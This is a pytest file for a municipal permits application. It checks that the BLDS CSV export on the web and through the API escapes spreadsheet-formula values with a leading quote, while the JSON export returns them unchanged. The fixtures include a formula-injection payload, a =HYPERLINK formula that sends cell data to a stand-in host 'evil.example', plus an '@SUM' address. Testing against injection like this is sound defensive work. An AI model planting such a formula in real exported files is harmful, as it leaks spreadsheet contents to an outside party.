"""The BLDS export of a town's applications, on the web page and through the API: an applicant's purpose and
property address that a spreadsheet would run as a formula are written after a single quote in the CSV the
Clerk downloads, and exactly as the applicant wrote them in the JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from publicassembly.permits import services as sv

from .conftest import client_for, fair_facts

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
ADDRESS = "  @SUM(1), Veterans Memorial Park, Carmel, NY 10512"


@pytest.fixture
def formula_app(carmel, cu):
    """The county fair, submitted, with a purpose and a property address that begin formulas."""
    facts = fair_facts()
    facts["purpose"] = HYPERLINK
    facts["properties"][0]["address"] = ADDRESS
    app = sv.create_draft(cu["applicant"], carmel, facts)
    sv.submit(cu["applicant"], app, verification_statement="Sworn before a notary.", today=dt.date.today())
    app.refresh_from_db()
    return app


@pytest.fixture
def api_token(cu):
    from publicassembly.api.models import ApiToken

    _, token = ApiToken.objects.issue(cu["town_clerk"], name="blds test")
    return {"HTTP_AUTHORIZATION": f"Bearer {token}"}


def _row(content: bytes) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def test_the_web_export_writes_the_formulas_after_a_quote(formula_app, cu):
    response = client_for(cu["town_clerk"]).get("/carmel-ny/export/blds/permits.csv")
    assert response.status_code == 200
    row = _row(response.content)
    assert row["Description"] == "'" + HYPERLINK and row["OriginalAddress1"] == "'" + ADDRESS


def test_the_api_export_writes_the_formulas_after_a_quote_in_csv_and_exactly_in_json(formula_app, api_token):
    url = "/api/v1/towns/carmel-ny/blds/permits"
    response = client_for(None).get(f"{url}?format=csv", **api_token)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    row = _row(response.content)
    assert row["Description"] == "'" + HYPERLINK and row["OriginalAddress1"] == "'" + ADDRESS
    assert row["PermitNum"] == f"carmel-ny/{formula_app.pk}"
    exact = client_for(None).get(f"{url}?format=json", **api_token).json()[0]
    assert exact["Description"] == HYPERLINK and exact["OriginalAddress1"] == ADDRESS
